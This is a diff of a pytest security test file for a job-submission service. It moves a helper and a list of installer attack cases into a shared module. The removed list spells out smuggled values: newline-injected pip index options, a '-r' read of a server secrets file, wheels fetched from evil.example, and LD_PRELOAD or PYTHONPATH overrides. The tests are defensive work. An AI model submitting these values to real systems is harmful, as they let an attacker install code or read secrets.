@@ -19,6 +19,7 @@ import pytest
 from api.schemas import FailureCause, JobStatus
 from service.attempts import Attempts
 from tests import attacks, code_attacks
+from tests.code_attacks import INSTALLER_ATTACKS, job
 
 MAX_FILES, MAX_BYTES, UPLOADS = 30, 16 * 2**20, 2
 
@@ -42,36 +43,6 @@ def uploaded(target) -> str:
     sha, r = code_attacks.upload(target.url, code_attacks.package())
     assert r.status_code == 201, r.text
     return sha
-
-
-def job(sha: str, **runtime_env) -> dict:
-    return {
-        "name": "attacker",
-        "entrypoint": "main:train",
-        "code": f"sha256:{sha}",
-        "scaling": {"num_workers": 1},
-        "runtime_env": runtime_env,
-    }
-
-
-INSTALLER_ATTACKS = [
-    ("a newline turns a pip entry into an index option", {"pip": ["numpy\n--index-url https://evil.example/simple"]}),
-    ("a newline turns a pip entry into -r of a server file", {"pip": ["numpy\n-r /etc/raydock/secrets.txt"]}),
-    ("a newline in a uv entry", {"uv": {"packages": ["numpy\r--extra-index-url=https://evil.example"]}}),
-    ("a direct reference to an attacker's wheel", {"pip": ["numpy @ https://evil.example/numpy-9.9-py3-none-any.whl"]}),
-    ("a direct reference over http to an allowed host", {"pip": ["numpy @ http://wheels.internal.example/n.whl"]}),
-    ("a git URL", {"pip": ["numpy @ git+https://evil.example/numpy.git"]}),
-    ("pip itself from a URL", {"pip": {"packages": ["numpy"], "pip_version": " @ https://evil.example/pip.whl"}}),
-    ("PIP_INDEX_URL", {"pip": ["numpy"], "env_vars": {"PIP_INDEX_URL": "https://evil.example/simple"}}),
-    ("PIP_EXTRA_INDEX_URL", {"pip": ["numpy"], "env_vars": {"PIP_EXTRA_INDEX_URL": "https://evil.example/simple"}}),
-    ("PIP_CONFIG_FILE", {"pip": ["numpy"], "env_vars": {"PIP_CONFIG_FILE": "/tmp/ray/session_latest/pip.conf"}}),
-    ("UV_INDEX_URL", {"uv": ["numpy"], "env_vars": {"UV_INDEX_URL": "https://evil.example/simple"}}),
-    ("pip_index_url in lower case", {"env_vars": {"pip_index_url": "https://evil.example/simple"}}),
-    ("PYTHONPATH", {"env_vars": {"PYTHONPATH": "/tmp/evil"}}),
-    ("LD_PRELOAD", {"env_vars": {"LD_PRELOAD": "/tmp/evil.so"}}),
-    ("CONDA_PKGS_DIRS", {"env_vars": {"CONDA_PKGS_DIRS": "/tmp/evil"}}),
-    ("HOME (pip reads its config there)", {"env_vars": {"HOME": "/tmp/evil"}}),
-]
 
 
 @pytest.mark.parametrize("what,runtime_env", INSTALLER_ATTACKS, ids=[a[0] for a in INSTALLER_ATTACKS])
